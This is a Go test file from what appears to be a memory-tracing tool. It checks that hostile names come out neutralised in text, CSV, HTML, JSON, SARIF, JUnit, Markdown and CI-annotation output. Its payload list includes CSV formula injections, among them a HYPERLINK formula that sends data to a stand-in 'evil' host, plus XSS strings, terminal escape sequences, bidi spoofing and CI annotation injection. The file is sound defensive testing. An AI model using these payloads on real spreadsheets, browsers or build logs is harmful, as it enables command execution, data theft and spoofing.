package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/memtrace/memtrace/analyzer/matrix"
	"github.com/memtrace/memtrace/analyzer/report"
	"github.com/memtrace/memtrace/analyzer/snapshot"
	"github.com/memtrace/memtrace/tracer/event"
)

// hostileNames are what a user can call a process, a thread, a file, a function, a
// control group or a host.
var hostileNames = []string{
	"=1+cmd|'/c'!A0", `=HYPERLINK("http://evil/?"&A1,"click")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "a;=1", "a\n=1", "'=1", `"=1"`,
	"a\nb", "a\r\nb", "a\vb\fc", "\x1b[2J\x1b]0;owned\a", "\x7f\b\b", "\u009b31m", "\u0085", "\u2028x\u2029", "\u202egnp.exe", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\U000e0041",
	"\xff\xfe", "a\xc0\xafb", "\xed\xa0\x80", "a\x00b", "\ufffd", "</script><script>alert(1)</script>", "<!--", "<img src=x onerror=alert(1)>", "]]>", "]]&gt;<x>", "&amp;", "&#27;",
	"```", "`a`", "a|b", "[a](javascript:b)", "@team", "::error::x", "::error file=a,line=1::x", "a\n::warning::y", "##[error]x", "%0A::error::x", "%", "{{data}}", "{{js}}",
	`a\x1bb`, `a\u202eb`, `a\`, `"`, "${x}", "$(x)", "__proto__", strings.Repeat("n", 1<<16), strings.Repeat("\u202e", 1<<10),
}

// outputs writes a name in every place of every format.
func outputs(t *testing.T, name string) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	put := func(format string, write func(io.Writer) error) {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Errorf("%.40q as %s: %v", name, format, err)
		}
		out[format] = b.Bytes()
	}
	r := hostileReportOf(name)
	r.Outcome = &report.Outcome{Failed: true, Problems: []string{name}, Unused: []string{name},
		Rules: []report.RuleDone{{Rule: name, Status: report.RuleFailed, Figure: name, Leaks: []int{0}}}}
	for _, f := range []Format{Text, JSON, JUnit, SARIF, Markdown, Annotations} {
		put("report."+string(f), func(w io.Writer) error { return Write(w, r, Options{Format: f, Frames: -1, Root: "/src"}) })
	}
	before, after := hostileSnapshots(name)
	for _, table := range []string{tableMatrix, tableProcesses, tableComponents} {
		for _, f := range []Format{Text, CSV, JSON, HTML} {
			opt := MatrixOptions{Format: f, Table: table}
			put(table+"."+string(f), func(w io.Writer) error { return WriteMatrix(w, matrix.New(before), opt) })
		}
	}
	for _, f := range []Format{Text, CSV, JSON} {
		put("diff."+string(f), func(w io.Writer) error {
			return WriteDiff(w, matrix.Compare(before, after, matrix.RSS), MatrixOptions{Format: f})
		})
	}
	out["events.text"] = WriteEvent(nil, &event.Event{Kind: event.Alloc}, 0, EventNames{Thread: name, Site: name})
	return out
}

func hostileReportOf(name string) *report.Report {
	r := serviceReport()
	p := &r.Processes[0]
	p.Comm, p.Exe, p.Allocators = name, name, []string{name}
	r.Tracer = report.TracerInfo{Attach: name, Faults: name, Unwind: name}
	for i := range r.Sites {
		s := &r.Sites[i]
		s.Function = name
		for j := range s.Stack {
			s.Stack[j] = &report.Frame{Function: name, Mangled: name, File: "/src/" + name + ".c", Line: 1, Module: name, BuildID: name}
		}
	}
	for i := range r.Regions {
		r.Regions[i].Function, r.Regions[i].Kind, r.Regions[i].Stack = name, name, []*report.Frame{{Function: name, File: name, Module: name}}
	}
	p.Mappings, p.Unprobed = []report.Mapping{{Name: name, Perms: name, Count: 1, ResidentBytes: 1}}, true
	r.Leaks[0].Why, r.Warnings = name, []string{name}
	return r
}

func hostileSnapshots(name string) (before, after *snapshot.Snapshot) {
	before, after = matrixFixture()
	for _, s := range []*snapshot.Snapshot{before, after} {
		s.Machine.Hostname, s.Machine.Kernel, s.Warnings = name, name, []string{name}
		for i := range s.Processes {
			p := &s.Processes[i]
			p.Comm, p.User, p.Cmdline, p.Cgroup, p.Why = name, name, []string{name, name}, name, name
		}
		for i := range s.Components {
			s.Components[i].Name = name
		}
		for i := range s.Changes.Came {
			s.Changes.Came[i].Comm = name
		}
	}
	return before, after
}

// TestHostileNamesInEveryFormat: nothing that a target is called does anything to
// a terminal, a spreadsheet, a browser, a job's log or a parser.
func TestHostileNamesInEveryFormat(t *testing.T) {
	for _, name := range hostileNames {
		for format, out := range outputs(t, name) {
			if !utf8.Valid(out) {
				t.Errorf("%.40q as %s: not UTF-8", name, format)
			}
			if i := bytes.IndexFunc(out, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
				t.Errorf("%.40q as %s: %q", name, format, out[max(i-20, 0):min(i+20, len(out))])
			}
			_, ending, _ := strings.Cut(format, ".")
			if check := formatChecks[ending]; check != nil {
				check(t, name, out)
			}
		}
	}
}

var formatChecks = map[string]func(t *testing.T, name string, out []byte){
	"csv": checkCSV, "html": checkHTML, "annotations": checkAnnotations,
	"json":  func(t *testing.T, name string, out []byte) { checkJSON(t, "JSON", name, out) },
	"sarif": func(t *testing.T, name string, out []byte) { checkJSON(t, "SARIF", name, out) },
	"junit": func(t *testing.T, name string, out []byte) {
		for d := xml.NewDecoder(bytes.NewReader(out)); ; {
			if _, err := d.Token(); err == io.EOF {
				return
			} else if err != nil {
				t.Errorf("%.40q as XML: %v", name, err)
				return
			}
		}
	},
	"markdown": func(t *testing.T, name string, out []byte) {
		if len(out) > maxMarkdown || bytes.Contains(out, []byte("<script")) || bytes.Contains(out, []byte("<img")) {
			t.Errorf("%.40q as Markdown: %d bytes, or markup", name, len(out))
		}
	},
}

func checkJSON(t *testing.T, format, name string, out []byte) {
	var doc any
	if err := json.Unmarshal(out, &doc); err != nil {
		t.Errorf("%.40q as %s: %v", name, format, err)
	}
}

var formula = regexp.MustCompile(`^\s*[=+@\x{ff1d}\x{ff0b}\x{ff0d}\x{ff20}]|^\s*-[^0-9]|^-[0-9.]*[^0-9.,]`)

// checkCSV reads it as RFC 4180 has it, and as a spreadsheet of another locale
// does: no cell begins a formula.
func checkCSV(t *testing.T, name string, out []byte) {
	for _, separator := range []rune{',', ';', '\t'} {
		r := csv.NewReader(bytes.NewReader(out))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = separator, -1, separator != ','
		if separator == ',' {
			r.FieldsPerRecord = 0
		}
		rows, err := r.ReadAll()
		if err != nil {
			t.Errorf("%.40q as CSV: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if formula.MatchString(cell) || separator == ',' && len(cell) > 10*maxCell {
					t.Errorf("%.40q as CSV: the cell %.60q", name, cell)
				}
			}
		}
	}
}

func checkHTML(t *testing.T, name string, out []byte) {
	if got := bytes.Count(out, []byte("<script")); got != 2 || bytes.Count(out, []byte("</script")) != 2 || bytes.Contains(out, []byte("<!--")) || bytes.Contains(out, []byte("<img")) {
		t.Errorf("%.40q as HTML: %d scripts, or markup", name, got)
	}
	_, rest, _ := bytes.Cut(out, []byte(`id="data">`))
	data, _, _ := bytes.Cut(rest, []byte("</script>"))
	checkJSON(t, "the page's data", name, data)
}

func checkAnnotations(t *testing.T, name string, out []byte) {
	for line := range strings.Lines(string(out)) {
		if !regexp.MustCompile(`^::(error|warning|notice) [^:]*::`).MatchString(line) || strings.Contains(line, "\r") {
			t.Errorf("%.40q as an annotation: %.100q", name, line)
		}
	}
	if n := bytes.Count(out, []byte("\n")); n > maxAnnotations+1 || len(out) > 1<<20 {
		t.Errorf("%.40q as annotations: %d lines, %d bytes", name, n, len(out))
	}
}

// TestNumbersStayNumbers, and what is shown of a name tells it from others.
func TestNumbersStayNumbers(t *testing.T) {
	for cell, want := range map[string]string{"-5": "-5", "12.5": "12.5", "-0.5": "-0.5", "-": "-", "": "", "-1-1": "'-1-1", "+1": "'+1", "=": "'=", "--1": "'--1", "-1.2.3": "'-1.2.3", "a-b": "a-b", "a;=1;-2": "a;'=1;-2", "-Wl,-z": "'-Wl,-z"} {
		rows, err := csv.NewReader(bytes.NewReader(EncodeCSV([][]string{{cell, "x"}}))).ReadAll()
		if err != nil || rows[0][0] != want {
			t.Errorf("%q: %q, %v", cell, rows, err)
		}
	}
	if a, b := ValidText("a\xff\u202e"), ValidText("a\xfe\u202e"); a == b || a != "a\\xff\u202e" {
		t.Errorf("%q and %q", a, b)
	}
	if got := CleanLines("a\x1b\nb\r"); got != `a\x1b`+"\n"+`b\x0d` {
		t.Errorf("%q", got)
	}
}
